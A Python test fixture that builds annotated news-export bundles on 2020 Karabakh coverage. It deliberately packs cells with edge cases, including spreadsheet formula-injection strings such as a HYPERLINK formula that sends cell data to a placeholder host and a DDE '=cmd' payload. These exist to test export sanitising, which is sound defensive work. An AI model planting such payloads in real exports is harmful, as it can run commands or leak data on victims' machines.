"""Hand-built export bundles with the content that breaks exporters.

Emoji and ZWJ families (offsets in code points), Armenian and Arabic script, a combining mark
with no precomposed form, typographic quotes, notes with commas, quotes and newlines,
formula-injection strings in every kind of text cell, a discontinuous quote, overlapping
claims and markers, a claim across a paragraph break, and a gold layer.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

from app.domain.text import canonicalize_paragraphs
from app.export.model import (
    ClaimOut,
    DocumentBundle,
    DocumentOut,
    ExportContext,
    LabelsOut,
    MarkerOut,
    SpanOut,
    SpeakerOut,
)

REPO = Path(__file__).resolve().parents[2]
CODEBOOK_FILE = REPO / "app" / "data" / "default_codebook.json"

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1+1)", "+1", "-2+3", "\t=1", "\r=1"]

PARAGRAPHS_1 = [
    "Azerbaijani President Ilham Aliyev said the attack was “a provocation” and that Armenian forces "
    "had shelled villages in Tovuz 😀.",
    "“We will not give up an inch of our land,” Aliyev said, “and the occupiers will pay a price.”",
    'Armenian Prime Minister Nikol Pashinyan (Նիկոլ Փաշինյան) called the claims =HYPERLINK("http://x/?"&A1,'
    '"click") and @SUM(1+1) nonsense; the family 👨‍👩‍👧‍👦 fled.',
    "Turkish FM Mevlüt Çavuşoğlu said +1 and -2+3 were the casualty figures, citing أذربيجان officials; "
    "q\u0307 stays a combining sequence.",
    "In the Armenian-occupied Nagorno-Karabakh region, 613 civilians were killed at Khojaly, according to "
    "the ministry.",
]
PARAGRAPHS_2 = ["😀 An unannotated wire story\twith a tab.", "Second paragraph: ‘single quotes’ and «guillemets»."]
PARAGRAPHS_3 = ["Only the gold layer annotated this: “It is over,” the spokesman said."]


def codebook() -> dict:
    data = json.loads(CODEBOOK_FILE.read_text(encoding="utf-8"))
    data["version"] = 3
    return data


ALIYEV = SpeakerOut(
    1, "Ilham Aliyev", ("Əliyev", "Aliyev"), "person", "President of Azerbaijan",
    "Government of Azerbaijan", "azerbaijan", "AZ", "Q100001",
)
PASHINYAN = SpeakerOut(
    2, "Nikol Pashinyan", ("Նիկոլ Փաշինյան", "Pashinian"), "person", "Prime Minister of Armenia",
    "Government of Armenia", "armenia", "AM", None,
)
CAVUSOGLU = SpeakerOut(
    3, "Mevlüt Çavuşoğlu", ("Cavusoglu", "Turkish FM"), "person", "-Foreign Minister",
    "=cmd|' /C calc'!A0", "turkey", "TR", "Q100003",
)
MINISTRY = SpeakerOut(4, "@Ministry of Defence", (), "government_body", None, None, "azerbaijan", "AZ", None)
SPEAKERS = [ALIYEV, PASHINYAN, CAVUSOGLU, MINISTRY]


def context(**overrides: object) -> ExportContext:
    values: dict[str, object] = {
        "project_slug": "karabakh-2020",
        "project_name": "Karabakh “2020” coverage, fact-check desk",
        "codebook": codebook(),
        "speakers": SPEAKERS,
        "base_url": "http://127.0.0.1:5000",
        "generated_at": "2025-02-01T12:00:00Z",
    }
    values.update(overrides)
    return ExportContext(**values)  # type: ignore[arg-type]


def find(text: str, needle: str, occurrence: int = 0, paragraph: int | None = None) -> SpanOut:
    """The span of the ``occurrence``-th ``needle`` in ``text`` (fails loudly when absent)."""
    start = -1
    for _ in range(occurrence + 1):
        start = text.index(needle, start + 1)
    return SpanOut(start, start + len(needle), needle, paragraph)


def document(doc_id: int, paragraphs: list[str], **fields: object) -> DocumentOut:
    canonical = canonicalize_paragraphs(paragraphs)
    return DocumentOut(
        id=doc_id,
        title=str(fields.pop("title", f"Document {doc_id}")),
        text=canonical.text,
        text_hash=canonical.sha256,
        paragraphs=[(p.start, p.end) for p in canonical.paragraphs],
        **fields,  # type: ignore[arg-type]
    )


def claim(
    claim_id: int,
    doc: DocumentOut,
    content: list[SpanOut],
    *,
    annotator: str = "alice",
    layer: str = "annotator",
    attribution: str = "indirect",
    **fields: object,
) -> ClaimOut:
    values: dict[str, object] = {
        "source": None,
        "cue": None,
        "source_specificity": None,
        "speaker": None,
        "speaker_resolution": None,
        "cue_valence": None,
        "stances": {},
        "authorial_stance": None,
        "claim_type": None,
        "claim_type_ff": None,
        "verifiable": None,
        "check_worthiness": None,
        "verification": None,
        "note": None,
    }
    values.update(fields)
    return ClaimOut(
        id=claim_id,
        document_id=doc.id,
        annotator=annotator,
        layer=layer,
        codebook_version=3,
        version=1,
        content=content,
        attribution=attribution,
        created_at="2025-01-15T10:02:00Z",
        updated_at="2025-01-16T08:30:00Z",
        **values,  # type: ignore[arg-type]
    )


def marker(
    marker_id: int, doc: DocumentOut, span: SpanOut, bias_type: str, *, annotator: str = "alice",
    layer: str = "annotator", **fields: object,
) -> MarkerOut:
    values: dict[str, object] = {"target": None, "polarity": None, "in_quote": False, "note": None}
    values.update(fields)
    return MarkerOut(
        id=marker_id, document_id=doc.id, annotator=annotator, layer=layer, codebook_version=3, version=2,
        span=span, bias_type=bias_type, created_at="2025-01-15T11:00:00Z", updated_at="2025-01-15T11:05:00Z",
        **values,  # type: ignore[arg-type]
    )


def first_bundle() -> DocumentBundle:
    doc = document(
        11, PARAGRAPHS_1, title="Clashes on the border: “provocation”, says Baku",
        source="TRT World", url="https://www.trtworld.com/example-article", author="=Staff, agencies",
        published="2020-07-14", external_id="trt-2020-07-14", meta={"language": "en", "tags": ["a", "b"]},
    )
    t = doc.text
    aliyev_source = find(t, "Azerbaijani President Ilham Aliyev")
    claims = [
        claim(
            101, doc, [find(t, "the attack was “a provocation”")], attribution="mixed",
            source=aliyev_source, cue=find(t, "said"), speaker=ALIYEV, speaker_resolution="explicit",
            source_specificity="named_person", cue_valence="neutral", stances={"T2": "against", "T1": "favor"},
            authorial_stance="reports", claim_type="opinion", claim_type_ff="not_a_claim", verifiable=False,
            check_worthiness="NFS", note='Checked, with "quotes",\nand a second line',
        ),
        claim(
            102, doc, [find(t, "Armenian forces had shelled villages in Tovuz")], source=aliyev_source,
            speaker=ALIYEV, speaker_resolution="explicit", claim_type="event", claim_type_ff="other_claim",
            verifiable=True, check_worthiness="CFS", stances={"T2": "against"},
            verification={
                "status": "false",
                "rating_text": FORMULAS[0],
                "evidence": [
                    {"url": "https://example.org/report?a=1,b=2", "title": "Report, “final”",
                     "accessed_at": "2025-01-20", "note": "p. 3"},
                    {"url": "https://example.org/second", "title": None, "accessed_at": None, "note": None},
                ],
                "checked_by": "carol",
                "checked_at": "2025-01-21T09:00:00Z",
            },
        ),
        claim(
            103, doc,
            [find(t, "We will not give up an inch of our land,"), find(t, "and the occupiers will pay a price.")],
            attribution="direct", source=find(t, "Aliyev", 1), cue=find(t, "said", 1), speaker=ALIYEV,
            speaker_resolution="explicit", cue_valence="neutral", claim_type="prediction",
            claim_type_ff="prediction", verifiable=True, check_worthiness="UFS", stances={"T5": "favor"},
            note="\t=1",
        ),
        claim(104, doc, [find(t, "an inch of our land")], claim_type="other_claim", note="=1+2"),
        claim(
            105, doc, [find(t, '=HYPERLINK("http://x/?"&A1,"click") and @SUM(1+1) nonsense')],
            annotator="bob", source=find(t, "Armenian Prime Minister Nikol Pashinyan (Նիկոլ Փաշինյան)"),
            cue=find(t, "called"), speaker=PASHINYAN, cue_valence="emotive", attribution="indirect",
            claim_type="opinion", claim_type_ff="not_a_claim", verifiable=False, check_worthiness="NFS",
            verification={"status": "mostly_true", "rating_text": "@SUM(1+1)", "evidence": [],
                          "checked_by": "bob", "checked_at": "2025-01-22T10:00:00Z"},
        ),
        claim(106, doc, [find(t, "the family 👨‍👩‍👧‍👦 fled")], annotator="bob", note="+1"),
        claim(
            107, doc, [find(t, "+1 and -2+3 were the casualty figures")], annotator="bob",
            source=find(t, "Turkish FM Mevlüt Çavuşoğlu"), cue=find(t, "said", 2), speaker=CAVUSOGLU,
            claim_type="quantity", claim_type_ff="quantity", verifiable=True, check_worthiness="CFS",
            verification={"status": "disputed_by_parties", "rating_text": "-2+3", "evidence": [],
                          "checked_by": "bob", "checked_at": "2025-01-23T10:00:00Z"},
            note="-2+3",
        ),
        claim(
            108, doc, [find(t, "shelled villages in Tovuz 😀.\n\n“We will not give up")], annotator="bob",
            note="\r=1", stances={"T1": "neutral"},
        ),
        claim(109, doc, [find(t, "citing أذربيجان officials; q\u0307 stays")], annotator="bob"),
        claim(
            110, doc, [find(t, "613 civilians were killed at Khojaly")], annotator="carol", layer="gold",
            source=find(t, "the ministry"), cue=find(t, "according to"), speaker=MINISTRY,
            speaker_resolution="explicit", source_specificity="named_org", claim_type="quantity",
            claim_type_ff="quantity", verifiable=True, check_worthiness="CFS",
            verification={"status": "true", "rating_text": None, "evidence": [], "checked_by": "carol",
                          "checked_at": "2025-01-24T10:00:00Z"},
        ),
        claim(
            111, doc, [find(t, "Armenian forces had shelled villages in Tovuz")], annotator="carol", layer="gold",
            source=aliyev_source, speaker=ALIYEV, claim_type="event", claim_type_ff="other_claim",
            verification={"status": "unverified", "rating_text": None, "evidence": [], "checked_by": None,
                          "checked_at": None},
        ),
    ]
    claims[0].n_bias_spans_overlapping = 2
    markers = [
        marker(201, doc, find(t, "a provocation"), "loaded_language", target="T2", polarity="negative",
               in_quote=True, note="+1"),
        marker(202, doc, find(t, "provocation"), "epistemic", note="@SUM(1+1)"),
        marker(203, doc, find(t, "Armenian-occupied"), "contested_term", annotator="bob", note="-2+3"),
        marker(204, doc, find(t, "occupiers"), "labeling", annotator="carol", layer="gold", polarity="negative",
               in_quote=True, target="T2", note='He said, "no"\nthen left'),
    ]
    labels = [
        LabelsOut(doc.id, "alice", "annotator", "TRT World", "state_public_broadcaster", "hard_news",
                  "security_defense", {"T1": "favor", "T2": "against"}, "No Armenian casualty figures, none",
                  "@SUM(1+1)\nsecond line", 4),
        LabelsOut(doc.id, "carol", "gold", "TRT World", "state_public_broadcaster", "hard_news",
                  "security_defense", {"T1": "favor"}, None, None, 1),
    ]
    return DocumentBundle(doc, claims, markers, labels)


def second_bundle() -> DocumentBundle:
    return DocumentBundle(document(12, PARAGRAPHS_2, title="+Wire: nothing annotated"), [], [], [])


def third_bundle() -> DocumentBundle:
    doc = document(13, PARAGRAPHS_3, title="Gold only")
    t = doc.text
    claims = [
        claim(
            301, doc, [find(t, "It is over,")], annotator="dave", layer="gold", attribution="direct",
            source=find(t, "the spokesman"), cue=find(t, "said"), source_specificity="anonymous",
            claim_type="opinion", claim_type_ff="not_a_claim", verifiable=False,
        ),
    ]
    return DocumentBundle(doc, claims, [], [])


def bundles() -> list[DocumentBundle]:
    return [first_bundle(), second_bundle(), third_bundle()]


def iter_bundles() -> Iterator[DocumentBundle]:
    yield from bundles()


# --- what every round trip must give back -------------------------------------------------


def claim_signature(claim: ClaimOut) -> tuple[object, ...]:
    """The spans and labels of a claim that every span format carries."""
    return (
        tuple((s.start, s.end, s.text) for s in claim.content),
        (claim.source.start, claim.source.end) if claim.source else None,
        (claim.cue.start, claim.cue.end) if claim.cue else None,
        claim.attribution,
        claim.source_specificity,
        claim.speaker_resolution,
        claim.cue_valence,
        claim.authorial_stance,
        claim.claim_type,
        claim.check_worthiness,
        (claim.verification or {}).get("status"),
        claim.speaker.name if claim.speaker else None,
        tuple(sorted(claim.stances.items())),
        claim.note,
    )


def imported_signature(claim: dict) -> tuple[object, ...]:
    """The same signature from a reader's claim dict (API request shape)."""
    def span(key: str) -> tuple[int, int] | None:
        return (claim[key]["start"], claim[key]["end"]) if claim.get(key) else None

    return (
        tuple((s["start"], s["end"], s["text"]) for s in claim["content"]),
        span("source_span"),
        span("cue_span"),
        claim.get("attribution"),
        claim.get("source_specificity"),
        claim.get("speaker_resolution"),
        claim.get("cue_valence"),
        claim.get("authorial_stance"),
        claim.get("claim_type"),
        claim.get("check_worthiness"),
        (claim.get("verification") or {}).get("status"),
        claim.get("speaker"),
        tuple(sorted((s["target"], s["value"]) for s in claim.get("stances", []))),
        claim.get("note"),
    )


def marker_signature(marker: MarkerOut) -> tuple[object, ...]:
    return (marker.span.start, marker.span.end, marker.span.text, marker.bias_type, marker.target,
            marker.polarity, marker.note)


def imported_marker_signature(marker: dict) -> tuple[object, ...]:
    span = marker["span"]
    return (span["start"], span["end"], span["text"], marker["bias_type"], marker.get("target"),
            marker.get("polarity"), marker.get("note"))


def expected_layers(source: list[DocumentBundle] | None = None) -> dict[str, dict[str, tuple[list, list]]]:
    """doc id → layer → (sorted claim signatures, sorted marker signatures)."""
    result: dict[str, dict[str, tuple[list, list]]] = {}
    for bundle in bundles() if source is None else source:
        layers: dict[str, tuple[list, list]] = {}
        for item in bundle.claims:
            layers.setdefault("gold" if item.layer == "gold" else item.annotator, ([], []))[0].append(
                claim_signature(item))
        for item in bundle.markers:
            layers.setdefault("gold" if item.layer == "gold" else item.annotator, ([], []))[1].append(
                marker_signature(item))
        result[str(bundle.document.id)] = {k: (sorted(c, key=repr), sorted(m, key=repr)) for k, (c, m) in layers.items()}
    return result


def imported_layers(documents: list) -> dict[str, dict[str, tuple[list, list]]]:
    result: dict[str, dict[str, tuple[list, list]]] = {}
    for document in documents:
        layers = {}
        for layer in set(document.claims) | set(document.markers):
            claims = [imported_signature(c) for c in document.claims.get(layer, [])]
            markers = [imported_marker_signature(m) for m in document.markers.get(layer, [])]
            layers[layer] = (sorted(claims, key=repr), sorted(markers, key=repr))
        result[str(document.doc_id)] = layers
    return result
